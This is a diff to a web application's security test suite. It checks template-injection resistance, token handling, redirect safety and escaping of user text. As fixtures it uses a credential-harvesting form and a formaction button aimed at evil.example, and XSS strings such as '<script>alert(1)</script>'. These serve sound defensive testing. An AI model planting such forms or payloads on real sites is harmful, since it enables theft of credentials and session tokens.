@@ -58,6 +58,38 @@ def test_p20_nothing_is_a_template(site: Site, builder: RepositoryBuilder, text:
     assert "62615533" not in answer.text
 
 
+@pytest.mark.parametrize(
+    ("address", "names"),
+    [
+        ("/_admin/repo_groups", ("group_name", "group_description")),
+        ("/r/settings", ("repo_name", "repo_group", "owner", "repo_description", "repo_landing_rev")),
+        ("/r/settings/fields", ("new_field_key", "new_field_label", "new_field_value")),
+        ("/r/settings/delete", ("path",)),
+        ("/r/fork", ("repo_group", "repo_name", "description")),
+    ],
+)
+def test_p20_what_a_form_shows_again_is_no_template(
+    site: Site, builder: RepositoryBuilder, address: str, names: tuple[str, ...]
+) -> None:
+    site.user("root", administrator=True)
+    builder.commit({b"a": b"1"})
+    for text in TEMPLATES:
+        answer = site.post(site.browser("root"), address, dict.fromkeys(names, text))
+        assert answer.status_int in (400, 422)
+        assert "62615533" not in answer.text
+        shown = [*answer.html.select("input[type=text], input:not([type])"), *answer.html.select("textarea")]
+        assert text.split() in [(field.get("value") or field.text).split() for field in shown]
+
+
+def test_p20_what_was_looked_for_is_no_template(site: Site, builder: RepositoryBuilder) -> None:
+    builder.commit({b"a": b"1"})
+    for address in ("/", "/r/branches", "/r/files-find/tip", "/r/changelog", "/r/refs-menu"):
+        for text in TEMPLATES:
+            answer = get(site.browser(), address, params=dict.fromkeys(("f", "q", "author"), text))
+            assert answer.status_int == 200
+            assert "62615533" not in answer.text, address
+
+
 HOSTILE_CELLS = [
     {"cell_type": "markdown", "source": "<script>alert(1)</script><img src=x onerror=a>"},
     {
@@ -250,18 +282,44 @@ def test_p36_what_was_looked_for_is_text(site: Site, builder: RepositoryBuilder)
 def test_p44_no_form_of_a_document_gets_a_token(site: Site, builder: RepositoryBuilder) -> None:
     site.user("root", administrator=True)
     form = b'<form action="https://evil.example/" method=post><input name=x><button>Sign in</button></form>'
-    builder.commit({b"README.md": form + b"\n\n[x](https://evil.example/)\n", b"a.ipynb": b"{}"})
+    outside = b'\n\n[x](https://evil.example/)\n\n<button form=f formaction="//evil.example/">x</button>\n'
+    builder.commit({b"README.md": form + outside, b"a.ipynb": b"{}"})
     browser = site.browser("root")
     token = site.token(browser)
-    for address in ("/", "/r", "/r/files/tip", "/r/files/tip/README.md", "/r/files-find/tip", "/r/changelog"):
+    pages = ("/", "/r", "/r/files/tip", "/r/files/tip/README.md", "/r/files-find/tip", "/r/changelog", "/r/settings")
+    for address in pages:
         page = get(browser, address)
         assert page.headers["Referrer-Policy"] == "same-origin"
-        assert [one["action"] for one in page.html.select("form[action]") if not one["action"].startswith("/")] == []
+        assert token in page.text, address
+        assert page.html.select("[formaction]") == []
+        assert [one for one in page.html.select("form[action]") if not _is_ours(one["action"])] == []
         assert [one for one in page.html.select("form:not([method=post]) input") if one.get("value") == token] == []
         assert [one for one in page.html.select("[href], [src]") if token in (one.get("href") or one["src"])] == []
 
 
-def test_names_of_people_and_descriptions_are_text(site: Site) -> None:
+def test_p44_no_address_gets_the_token_that_a_form_carried(site: Site, builder: RepositoryBuilder) -> None:
+    site.user("root", administrator=True)
+    builder.commit({b"a": b"1"})
+    browser = site.browser("root")
+    for address, fields in (
+        ("/_admin/repo_groups", {"group_name": "g"}),
+        ("/_admin/repos", {"repo_name": "s", "repo_type": "git"}),
+        ("/s/settings", {"repo_name": "t", "repo_group": "", "owner": "root"}),
+        ("/t/settings/delete", {"path": "t"}),
+        ("/_admin/logout", {}),
+    ):
+        token = site.token(browser)
+        answer = site.post(browser, address, fields)
+        assert answer.status_int == 303, address
+        assert token not in answer.location
+        assert _is_ours(answer.location.removeprefix("http://localhost"))
+
+
+def _is_ours(address: str) -> bool:
+    return address.startswith("/") and not address.startswith(("//", "/\\"))
+
+
+def test_p33_p34_names_of_people_and_descriptions_are_text(site: Site) -> None:
     site.user("root", administrator=True)
     site.grant("visitors", Level.READ)
     site.group("g")
@@ -276,8 +334,10 @@ def test_names_of_people_and_descriptions_are_text(site: Site) -> None:
         services.repositories.insert(
             COMMAND_LINE, kind=Kind.GIT, path="g/x", folder="x", owner_id=root.user_id, description="<img onerror=x>"
         )
-    for address in ("/", "/g"):
-        _assert_harmless(address, get(site.browser("root"), address).text)
+    for address, words in (("/", "<img onerror=x>"), ("/g", "<script>alert(1)</script>")):
+        page = get(site.browser("root"), address)
+        _assert_harmless(address, page.text)
+        assert words in page.html.select_one("main").text
 
 
 def _assert_harmless(address: str, text: str) -> None:
